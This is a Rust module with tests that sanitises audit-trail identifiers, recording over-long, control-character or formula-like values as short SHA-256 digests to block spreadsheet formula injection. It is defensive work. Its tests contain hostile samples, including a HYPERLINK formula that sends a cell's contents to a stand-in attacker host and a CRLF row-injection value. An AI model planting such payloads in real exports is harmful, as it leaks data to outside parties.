//! Identifiers fit for evidence. The trail is read by people and opened in spreadsheets, and
//! some of what it names arrives before anyone is verified (a client ID typed into a token
//! request), so nothing in it may be arbitrary text: a value that is too long, holds a control
//! character or starts like a spreadsheet formula is recorded as a short digest instead, which
//! still lets the same value be recognised across entries without repeating it.

use std::borrow::Cow;

use sha2::{Digest, Sha256};

/// Longest identifier recorded as given.
const MAX_ID_BYTES: usize = 128;

/// Prefix of a value recorded by its digest instead of as given.
const UNVERIFIED: &str = "unverified:";

/// Whether `value` may enter the trail as it is: short, printable, not a formula. The
/// placeholder `-` (nobody, nothing) is allowed.
fn is_recordable(value: &str) -> bool {
    value == "-"
        || (!value.is_empty()
            && value.len() <= MAX_ID_BYTES
            && !value.chars().any(char::is_control)
            && !crate::csv::looks_like_formula(value))
}

/// `value` if it is recordable, otherwise `unverified:` and its digest.
pub(super) fn bounded(value: &str) -> Cow<'_, str> {
    if is_recordable(value) {
        Cow::Borrowed(value)
    } else {
        Cow::Owned(unverified(value))
    }
}

/// `unverified:` and the first 12 hex digits of the SHA-256 of `value`.
pub(super) fn unverified(value: &str) -> String {
    let digest = Sha256::digest(value.as_bytes());
    format!("{UNVERIFIED}{}", &hex::encode(digest)[..12])
}

/// Whether `id` has the form of the client IDs registration hands out (`c_` and 32 lowercase
/// hex digits); anything else cannot be a registered client and is not recorded as typed.
pub(super) fn is_client_id(id: &str) -> bool {
    id.strip_prefix("c_").is_some_and(|hex| {
        hex.len() == 32
            && hex
                .bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identifiers_pass_unchanged() {
        for id in [
            "-",
            "0193a7c2-5b1e-7cc1-9f1e-2a0c3e4d5f60",
            "customer:0193a7c2-5b1e-7cc1-9f1e-2a0c3e4d5f60",
            "audit:rows=12",
            "key-rotation",
            &"a".repeat(MAX_ID_BYTES),
        ] {
            assert_eq!(bounded(id), id, "{id}");
        }
    }

    #[test]
    fn long_control_and_formula_values_become_a_digest() {
        for raw in [
            "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
            "+1",
            "-1",
            "@SUM(A1)",
            " =1+1",
            "\u{FF1D}1+1",
            "\tx",
            "admin\r\nseq,1",
            "a\u{0}b",
            "",
            &"a".repeat(MAX_ID_BYTES + 1),
            &"x".repeat(4096),
        ] {
            let recorded = bounded(raw);
            assert!(
                recorded.starts_with("unverified:"),
                "{raw:?} gave {recorded}"
            );
            assert_eq!(recorded.len(), "unverified:".len() + 12, "{raw:?}");
            assert!(is_recordable(&recorded));
        }
        assert_eq!(
            bounded("+1"),
            bounded("+1"),
            "the same value, the same digest"
        );
        assert_ne!(bounded("+1"), bounded("+2"));
        assert_eq!(
            unverified("abc"),
            "unverified:ba7816bf8f01",
            "the SHA-256 of `abc` starts ba7816bf8f01"
        );
    }

    #[test]
    fn clients_a_request_only_claims_are_recorded_by_digest() {
        use crate::audit::Actor;
        let registered = "c_0123456789abcdef0123456789abcdef";
        assert_eq!(Actor::client(registered).id, registered);
        for claimed in [
            "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")",
            "admin",
            &"x".repeat(4096),
        ] {
            let id = Actor::client(claimed).id;
            assert_eq!(id, format!("client:{}", unverified(claimed)));
            assert_eq!(id.len(), "client:unverified:".len() + 12);
        }
    }

    #[test]
    fn only_registered_client_id_shapes_count_as_client_ids() {
        assert!(is_client_id("c_0123456789abcdef0123456789abcdef"));
        for id in [
            "c_0123456789ABCDEF0123456789ABCDEF",
            "c_0123456789abcdef0123456789abcde",
            "c_0123456789abcdef0123456789abcdef0",
            "d_0123456789abcdef0123456789abcdef",
            "admin",
            "",
        ] {
            assert!(!is_client_id(id), "{id}");
        }
    }
}
